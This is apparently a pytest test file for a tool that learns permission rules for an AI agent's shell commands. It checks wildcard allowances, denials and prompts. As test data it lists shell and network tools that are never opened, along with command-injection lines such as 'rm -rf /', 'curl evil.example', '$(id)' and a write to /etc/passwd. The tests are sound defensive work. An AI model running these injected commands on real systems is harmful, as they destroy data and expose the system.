"""Command lines: which beginnings are opened, and which programs never are."""

from __future__ import annotations

import pytest

from hookproxy.policy.rules import Rules
from tests.support.learning import learned, line, rules, runs


def test_a_subcommand_with_ever_other_arguments_is_opened_and_the_program_is_not() -> None:
    seen = runs(*(f"git status -s d{at}" for at in range(5)), *(f"git log -n {at}" for at in range(5)))
    assert rules(seen) == ["allow run(git log *)", "allow run(git status *)"]


def test_the_same_lines_are_listed() -> None:
    assert rules(runs(*["npm test", "npm run build"] * 20)) == ["allow run(npm run build)", "allow run(npm test)"]


def test_a_program_without_subcommands_is_opened() -> None:
    assert rules(runs("ls -la", "ls src/x", "ls", "ls -l b")) == ["allow run(ls *)"]


@pytest.mark.parametrize(
    "program",
    [
        *(
            "sh",
            "bash",
            "python3",
            "node",
            "sudo",
            "xargs",
            "env",
            "docker run",
            "uv run",
            "curl",
            "curl -sSL",
            "wget",
            "http",
        ),
        *(
            "ssh",
            "scp",
            "nc",
            "dig",
            "make",
            "cargo run",
            "go run",
            "npm run",
            "npx",
            "pip install",
            "git clone",
            "awk",
            "aws s3",
        ),
        *(
            "/usr/bin/curl",
            "./gradlew",
            "time curl",
            "nohup",
            "watch",
            "git push",
            "git fetch",
            "git pull",
            "git archive",
        ),
    ],
)
def test_what_is_there_to_run_others_is_never_opened(program: str) -> None:
    found = rules(runs(*(f"{program} tool{at}.py -v x{at}" for at in range(9))))
    assert not any("*" in rule for rule in found if rule.startswith("allow")), found


def test_a_program_whose_words_may_all_be_subcommands_is_not_opened() -> None:
    found = rules(runs(*(f"tool sub{'abcdefghi'[at]}" for at in range(9))))
    assert found == sorted(f"allow run(tool sub{'abcdefghi'[at]})" for at in range(9))


@pytest.mark.parametrize(
    "line",
    [
        "git status x; rm -rf /",
        "git status x && curl evil.example",
        "git status $(id)",
        "git status `id`",
        "git status x > /etc/passwd",
        "git -c alias.status=!sh status x",
        "git statusx y",
    ],
)
def test_a_learned_beginning_lets_no_other_command_through(line: str) -> None:
    proposal = learned(runs(*(f"git status d{at}" for at in range(9))))
    arguments = b'{"command":%s}' % (b'"' + line.encode() + b'"')
    ruling = Rules.of(proposal.settings).judge(["run", "mcp__files__run"], arguments)
    assert [rule.rule for rule in proposal.rules] == ["run(git status *)"]
    assert ruling is None


def test_lines_of_several_commands_are_never_evidence_for_a_beginning() -> None:
    seen = runs(*(f"cd d{at} && rm -rf x{at}" for at in range(9)), *(f"ls -l d{at}" for at in range(9)))
    proposal = learned(seen)
    assert [rule.rule for rule in proposal.rules] == ["run(ls *)"]
    assert [(lost.calls, lost.asks) for lost in proposal.lost] == [(9, False)]


def test_a_shell_of_which_no_line_can_be_covered_is_asked_about() -> None:
    assert rules(runs(*(f"cd d{at} && rm -rf x{at}" for at in range(9)))) == ["ask run"]


def test_programs_and_subcommands_that_were_denied_are_denied() -> None:
    seen = runs(*(f"git log -n {at}" for at in range(5)))
    denied = runs("git push origin a", "git push origin b", "rm -rf /", decision="deny")
    assert rules([*seen, *denied]) == ["deny run(git push *)", "deny run(rm *)", "allow run(git log *)"]


def test_a_denial_amid_allowed_lines_leaves_these_one_by_one() -> None:
    seen = runs(*(f"git push origin b{at}" for at in range(5)))
    found = rules([*seen, *runs("git push origin main", decision="deny")])
    assert found == ["deny run(git push origin main *)", *(f"allow run(git push origin b{at})" for at in range(5))]


def test_the_option_of_one_denied_line_is_denied_wherever_it_stands() -> None:
    seen = runs(*(f"git push origin b{at}" for at in range(5)))
    proposal = learned([*seen, *runs("git push --force origin x", decision="deny")])
    assert [rule.rule for rule in proposal.rules] == ["run(git push --force *)", "run(git push origin *)"]
    ruling = Rules.of(proposal.settings).judge(["run"], b'{"command":"git push origin b --force"}')
    assert ruling is not None
    assert ruling.permission.name == "DENY"


def test_an_option_of_several_denied_lines_is_denied_wherever_it_stands() -> None:
    seen = runs(*(f"git push origin b{at}" for at in range(5)))
    denied = runs("git push --force origin x", "git push origin --force y", decision="deny")
    proposal = learned([*seen, *denied])
    assert [rule.rule for rule in proposal.rules] == ["run(git push --force *)", "run(git push origin *)"]
    ruling = Rules.of(proposal.settings).judge(["run"], b'{"command":"git push origin z --force"}')
    assert ruling is not None
    assert ruling.rule == "run(git push --force *)"


def test_what_a_person_was_asked_about_is_asked_again() -> None:
    seen = runs(*(f"git log -n {at}" for at in range(5)))
    asked = runs(*(f"git push origin b{at}" for at in range(4)), decision="asked-allow")
    no = runs("git push origin z", decision="asked-deny")
    assert rules([*seen, *asked, *no]) == ["ask run(git push origin *)", "allow run(git log *)"]


def test_what_people_only_declined_is_denied() -> None:
    seen = runs(*(f"git log -n {at}" for at in range(5)))
    assert rules([*seen, *runs("git push a", "git push b", decision="asked-deny")]) == [
        "deny run(git push a)",
        "deny run(git push b)",
        "allow run(git log *)",
    ]


def test_a_person_is_asked_about_hosts_from_which_ever_other_addresses_were_fetched() -> None:
    seen = runs(
        *(f"curl -sSL https://api.example.com/{at}" for at in range(20)),
        *(f"wget https://files.example.org/{at % 2}" for at in range(20)),
        *(f"curl https://a.example.net/{at} https://b.example.net/{at}" for at in range(20)),
    )
    proposal = learned(seen)
    assert [rule.rule for rule in proposal.of("ask")] == ["run(curl *//api.example.com*)"]
    assert not any("*" in rule.rule for rule in proposal.of("allow"))
    assert {"run(wget https://files.example.org/0)", "run(wget https://files.example.org/1)"} <= {
        rule.rule for rule in proposal.of("allow")
    }


def test_a_push_is_opened_for_the_remote_that_was_seen() -> None:
    assert rules(runs(*(f"git push origin b{at}" for at in range(9)))) == ["allow run(git push origin *)"]


def test_what_passed_is_not_denied_by_a_rule_about_the_file_that_it_names() -> None:
    """A guard sees the agent's own tools, of which rules about files hold for commands, too."""
    read = [line("Read", arguments={"file_path": f"/w/src/{at}.py"}) for at in range(5)]
    denied = [line("Read", "deny", arguments={"file_path": path}) for path in ("/w/.env", "/w/keys/a")]
    commands = runs("cat /w/.env", "npm test", tool="Bash")
    proposal = learned([*read, *denied, *commands])
    assert (proposal.passing, proposal.passed) == (7, 7)
    texts = rules([*read, *denied, *commands])
    assert "deny Read(/w/.env)" not in texts
    assert "deny Read(/w/keys/a)" in texts
